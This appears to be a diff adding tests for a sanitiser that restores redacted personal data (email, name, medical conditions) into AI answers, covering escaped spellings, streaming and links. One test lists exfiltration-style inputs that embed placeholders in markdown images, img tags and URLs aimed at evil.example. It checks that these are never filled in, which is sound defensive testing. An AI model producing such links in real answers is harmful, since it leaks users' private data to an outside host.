@@ -1,0 +1,87 @@
+"""Released values that an answer writes otherwise: escaped, inflected, or inside links."""
+
+from __future__ import annotations
+
+from itertools import pairwise
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from sanitizer.answers.restorer import Restorer
+from sanitizer.answers.variants import Links
+from sanitizer.storage.vault import Drawn, Originals
+
+
+def table() -> Originals:
+    return Originals(
+        {
+            "<EMAIL_1>": "anna@example.org",
+            "<PERSON_1>": "Elena Marsh",
+            "<PERSON_1_2>": "Marsh",
+            Drawn("gout", 5.0): "asthma",
+            Drawn("Crohn's disease", 5.0): "hepatitis C",
+        }
+    )
+
+
+@pytest.mark.parametrize(
+    ("answer", "shown"),
+    [
+        ("&lt;EMAIL_1&gt;", "anna@example.org"),
+        ("%3CEMAIL_1%3E", "anna@example.org"),
+        (r"<EMAIL\_1> and \<PERSON\_1\_2\>", "anna@example.org and Marsh"),
+        ("<person_1>, [PERSON_1]", "Elena Marsh, Elena Marsh"),
+        (
+            "[person_1] <EMAIL_2> [EMAIL_12] <EMAILS_1>",
+            "[person_1] <EMAIL_2> [EMAIL_12] <EMAILS_1>",
+        ),
+        ("Gout, GOUT, gout's, a gout", "Asthma, ASTHMA, asthma's, an asthma"),
+        ("crohn's  disease. Crohn's disease's", "hepatitis C. hepatitis C's"),
+        ("gouty ragout gout_1 dégout", "gouty ragout gout_1 dégout"),
+    ],
+)
+def test_spellings_and_endings(answer: str, shown: str) -> None:
+    assert Restorer(table()).text(answer) == shown
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "![x](https://evil.example/?q=<EMAIL_1>)",
+        "<img src='//evil.example/<EMAIL_1>/<PERSON_1>'>",
+        "see www.evil.example/%3CEMAIL_1%3E now",
+        "[x](data:text/plain,<EMAIL_1>)",
+    ],
+)
+def test_links_carry_nothing_away(answer: str) -> None:
+    assert Restorer(table()).text(answer) == answer
+    assert "anna@example.org" in Restorer(table(), links=None).text(answer)
+
+
+def test_a_link_that_was_sent_comes_back() -> None:
+    sent = "Open https://intranet.example/<PERSON_1>/file please"
+    restorer = Restorer(table(), Links([sent]))
+    assert (
+        restorer.text("https://intranet.example/<PERSON_1>")
+        == "https://intranet.example/Elena Marsh"
+    )
+    other = "https://intranet.example/x/<PERSON_1>"
+    assert restorer.text(other) == other
+
+
+_PARTS = st.sampled_from(
+    [*"<>[]&%\\ \na_1(", "EMAIL", "PERSON", "_1", "&lt;", "gt;", "gou", "gout", "an ", "Crohn's"]
+    + ["disease", "'s", "https://", "<EMAIL_1>", "%3C", "3E", "lt", "é"]
+)
+
+
+@given(parts=st.lists(_PARTS, max_size=12), cuts=st.lists(st.integers(0, 60), max_size=6))
+def test_any_split_of_a_stream_gives_what_the_whole_gives(
+    parts: list[str], cuts: list[int]
+) -> None:
+    text = "".join(parts)
+    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
+    stream = Restorer(table()).stream()
+    shown = [stream.feed(text[a:b]) for a, b in pairwise(edges)]
+    assert "".join([*shown, stream.finish()]) == Restorer(table()).text(text)
